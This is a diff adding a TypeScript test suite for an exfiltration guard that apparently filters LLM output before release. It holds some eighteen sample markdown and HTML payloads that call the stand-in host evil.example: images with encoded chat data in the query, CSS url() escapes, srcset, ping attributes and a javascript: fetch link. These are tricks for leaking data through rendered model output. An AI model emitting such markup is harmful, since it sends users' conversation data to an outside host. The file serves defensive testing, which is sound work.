@@ -1,0 +1,126 @@
+// The exfiltration guard against the markdown and HTML tricks of issue 16, whole and streamed at several chunk
+// sizes through the real hold-back window: no request to the attacker's host survives in what is released.
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { pino } from 'pino';
+import type { GuardContext } from '../../../core/context.js';
+import type { Guard } from '../../../core/guard.js';
+import { GuardPipeline } from '../../../core/pipeline.js';
+import { OutputWindow } from '../../../core/stream-window.js';
+import { buildGuard } from '../../registry.js';
+
+const log = pino({ level: 'silent' });
+const env = { log, dataDir: '/nonexistent', secrets: [] as string[] };
+const EVIL = 'evil.example';
+const FILLER = `${'The quick brown fox jumps over the lazy dog again and again. '.repeat(12)}\n\n`;
+
+function guard(options: Record<string, unknown> = {}): Guard {
+  return buildGuard({ use: 'exfiltration', options }, 'response', env, 'guards.response[0]');
+}
+
+function context(): GuardContext {
+  return {
+    requestId: 'r',
+    route: 'chat',
+    principal: { id: 'p', kind: 'anonymous', scopes: [] },
+    model: 'm',
+    body: { messages: [{ role: 'user', content: 'hi' }] },
+    state: new Map(),
+    log,
+  };
+}
+
+/** The text the client receives when the output arrives in chunks of `size` (0: one non-streamed answer). */
+async function guarded(text: string, size: number, g: Guard = guard()): Promise<string> {
+  const pipeline = new GuardPipeline([g], { defaultDeadlineMs: 5000, log });
+  const ctx = context();
+  const w = new OutputWindow((view) => {
+    ctx.output = view;
+    return pipeline.run('response', ctx);
+  }, pipeline.holdBack);
+  let out = '';
+  const step = size === 0 ? text.length : size;
+  for (let i = 0; i < text.length && size > 0; i += step) {
+    const r = await w.push(text.slice(i, i + step));
+    assert.equal(r.blocked, undefined);
+    out += r.release;
+  }
+  const last = await w.finish(size === 0 ? text : '');
+  assert.equal(last.blocked, undefined);
+  return out + last.release;
+}
+
+const SIZES = [0, 1, 7, 16];
+
+async function assertCaught(name: string, text: string) {
+  assert.ok(text.includes(EVIL), name);
+  for (const size of SIZES) {
+    const out = await guarded(text, size);
+    assert.ok(!out.includes(EVIL), `${name}: the attacker's host survives at chunk size ${size}: ${out}`);
+    assert.match(out, /\[REDACTED:[a-z-]+\]/, `${name} (size ${size})`);
+  }
+}
+
+const PNG = `https://${EVIL}/p.png`;
+const COLLECT = `https://${EVIL}/collect`;
+const DATA = 'd=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5';
+
+describe('exfiltration guard: tricks a renderer turns into a request', () => {
+  const tricks: [string, string][] = [
+    ['entity-encoded colon in a markdown image', `![a](https&#58;//${EVIL}/p.png?${DATA})`],
+    ['entity-encoded colon in an img tag', `<img src="https&#58;//${EVIL}/q.png">`],
+    ['escaped backtick before an image', `Note: \\\`![a](${PNG})\``],
+    ['code span opened on the line before', `a \` b\nc \` ![a](${PNG}) \` end`],
+    ['reference definition in a blockquote', `![a][x]\n\n> [x]: ${COLLECT}\n`],
+    ['reference definition in a list item', `![a][x]\n\n- [x]: ${COLLECT}\n`],
+    ['case- and space-folded label', `![a][My   Ref]\n\n[my ref]: ${COLLECT}\n`],
+    ['alt text with a newline', `![a\nb](${COLLECT})`],
+    ['alt text with nested brackets', `![a [b] c](${COLLECT})`],
+    ['CSS url() in a style attribute', `<div style="background:url(//${EVIL}/bg)">hi</div>`],
+    ['CSS url() with an escaped function name', `<p style="background: \\75 rl(//${EVIL}/bg)">x</p>`],
+    ['table background', `<table background="//${EVIL}/t"><tr><td>x</td></tr></table>`],
+    ['a ping', `<a href="/docs" ping="https://${EVIL}/ping">docs</a>`],
+    ['short hex path segments', `[docs](https://${EVIL}/73/65/63/72/65/74/2d/6b/65/79)`],
+    ['entity-encoded javascript: link', `<a href="javascript&colon;fetch('//${EVIL}')">x</a>`],
+    ['backslash host in an img tag', `<img src="/\\${EVIL}/p">`],
+    ['srcset candidate', `<img src="/ok.png" srcset="/ok2.png 2x, //${EVIL}/s.png 3x">`],
+    ['style sheet with image-set', `<style>p{background:image-set("//${EVIL}/i" 1x)}</style>`],
+  ];
+  for (const [name, text] of tricks) {
+    it(`catches ${name}, whole and streamed`, () => assertCaught(name, text));
+  }
+});
+
+describe('exfiltration guard: reference definitions across a stream', () => {
+  it('redacts a definition that arrives long after the image that uses it', async () => {
+    const text = `See ![chart][stats] below.\n\n${FILLER}${FILLER}[stats]: ${COLLECT}\n`;
+    await assertCaught('late definition', text);
+  });
+
+  it('redacts an image whose definition scrolled out of the window long before', async () => {
+    const text = `[stats]: ${COLLECT}\n\n${FILLER}${FILLER}Here: ![chart][stats]\n`;
+    for (const size of SIZES) {
+      const out = await guarded(text, size);
+      // The definition was released (a link without data is allowed); the image that loads it is not.
+      assert.ok(!out.includes('![chart][stats]'), `size ${size}`);
+      assert.match(out, /Here: \[REDACTED:off-list-image\]/, `size ${size}`);
+    }
+  });
+});
+
+describe('exfiltration guard: what renders as text stays', () => {
+  it('leaves code spans, fenced and indented code, escaped markup and allowed hosts alone', async () => {
+    const texts = [
+      `Write \`![a](${PNG})\` to embed an image.`,
+      `\`\`\`html\n<img src="${PNG}">\n<script>alert(1)</script>\n\`\`\`\n`,
+      `> quoted\n\n    ![a](${PNG})\n`,
+      `Escaped: \\![a](https://docs.acme.io/p.png) and &lt;img src="${PNG}"&gt;`,
+      '![logo](https://cdn.acme.io/logo.png) and [docs](https://docs.acme.io/guide)',
+      `${FILLER}\`\`\`md\n${FILLER}![a](${PNG})\n\`\`\`\n`,
+    ];
+    const g = () => guard({ allowedHosts: ['*.acme.io'] });
+    for (const text of texts) {
+      for (const size of SIZES) assert.equal(await guarded(text, size, g()), text, `size ${size}: ${text}`);
+    }
+  });
+});
